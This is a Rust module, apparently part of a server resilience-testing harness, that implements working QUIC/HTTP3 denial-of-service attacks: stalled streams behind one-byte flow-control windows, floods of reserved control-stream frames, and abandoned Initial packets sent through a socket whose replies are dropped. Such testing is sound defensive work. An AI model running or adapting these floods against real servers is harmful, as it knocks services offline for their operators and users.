//! Attacks of whoever knows no key, over QUIC.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::net::UdpSocket;
use tokio::time::sleep;

use super::Plan;
use super::web::many;
use crate::probes::kinds;

/// A client's endpoint at the attacker's address.
fn endpoint(plan: &Plan, stream_window: Option<u32>) -> quinn::Endpoint {
    let crypto = quinn::crypto::rustls::QuicClientConfig::try_from(kinds::tls_config(b"h3"));
    let mut config = quinn::ClientConfig::new(Arc::new(crypto.unwrap()));
    if let Some(window) = stream_window {
        let mut transport = quinn::TransportConfig::default();
        transport.stream_receive_window(window.into());
        config.transport_config(Arc::new(transport));
    }
    let mut endpoint = quinn::Endpoint::client(SocketAddr::new(plan.from, 0)).unwrap();
    endpoint.set_default_client_config(config);
    endpoint
}

async fn connect(plan: &Plan, endpoint: &quinn::Endpoint) -> Option<quinn::Connection> {
    let connecting = endpoint.connect(plan.udp(), "localhost").ok()?;
    let soon = Duration::from_secs(5);
    tokio::time::timeout(soon, connecting).await.ok()?.ok()
}

/// A QUIC variable-length integer of up to 14 bits.
fn varint(n: u16) -> Vec<u8> {
    match n {
        0..=63 => vec![u8::try_from(n).unwrap()],
        _ => (0x4000 | n).to_be_bytes().to_vec(),
    }
}

/// A control stream with empty SETTINGS.
async fn control(connection: &quinn::Connection) -> Option<quinn::SendStream> {
    let mut control = connection.open_uni().await.ok()?;
    control.write_all(&[0, 4, 0]).await.ok()?;
    Some(control)
}

/// HEADERS of a GET, of static fields and literals (RFC 9204).
fn get() -> Vec<u8> {
    // No dynamic table; 17 is GET, 23 https; literals by name reference: 1 is :path, 0 :authority.
    let mut block = vec![0, 0, 0xc0 | 17, 0xc0 | 23];
    for (name, value) in [(1, "/large.bin"), (0, "localhost")] {
        block.extend([0x50 | name, u8::try_from(value.len()).unwrap()]);
        block.extend_from_slice(value.as_bytes());
    }
    let len = u16::try_from(block.len()).unwrap();
    [vec![1], varint(len), block].concat()
}

pub(super) async fn closed_windows(plan: Arc<Plan>) -> String {
    many(plan, 64, "requests", |plan, count, _| async move {
        // Of one byte: with none quinn's own client would not begin.
        let endpoint = endpoint(&plan, Some(1));
        let connection = connect(&plan, &endpoint).await?;
        let _control = control(&connection).await?;
        let mut streams = Vec::new();
        for _ in 0..100 {
            let opening = connection.open_bi();
            let opened = tokio::time::timeout(Duration::from_secs(2), opening).await;
            let Ok(Ok((mut send, receive))) = opened else {
                break;
            };
            send.write_all(&get()).await.ok()?;
            let _ = send.finish();
            count.add(1);
            streams.push((send, receive));
        }
        connection.closed().await;
        None
    })
    .await
}

pub(super) async fn reserved_frames(plan: Arc<Plan>) -> String {
    many(plan, 2, "frames", |plan, count, _| async move {
        let endpoint = endpoint(&plan, None);
        let connection = connect(&plan, &endpoint).await?;
        let mut control = control(&connection).await?;
        // 0x21 is reserved and means nothing; of no length.
        let many = [0x21, 0].repeat(1000);
        loop {
            control.write_all(&many).await.ok()?;
            count.add(1000);
        }
    })
    .await
}

/// Initials of a client that never hears an answer: what it sends goes through a socket whose answers are dropped.
pub(super) async fn initials(plan: Arc<Plan>) -> String {
    let to = plan.udp();
    let deaf = UdpSocket::bind(SocketAddr::new(plan.from, 0))
        .await
        .unwrap();
    let near = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let at = near.local_addr().unwrap();
    let passing = tokio::task::spawn_local(async move {
        let mut buf = vec![0; 2048];
        while let Ok((n, _)) = near.recv_from(&mut buf).await {
            let _ = deaf.send_to(&buf[..n], to).await;
        }
    });
    let said = many(
        Arc::clone(&plan),
        1,
        "Initials",
        move |plan, count, _| async move {
            let endpoint = endpoint(&plan, None);
            while !plan.over() {
                for _ in 0..10 {
                    // Given up at once: it has sent its first packet.
                    let connecting = endpoint.connect(at, "localhost").ok()?;
                    tokio::task::yield_now().await;
                    count.add(1);
                    let given_up = tokio::time::timeout(Duration::from_millis(20), connecting);
                    tokio::task::spawn_local(async move {
                        let _ = given_up.await;
                    });
                }
                sleep(Duration::from_millis(10)).await;
            }
            Some(())
        },
    )
    .await;
    passing.abort();
    said
}
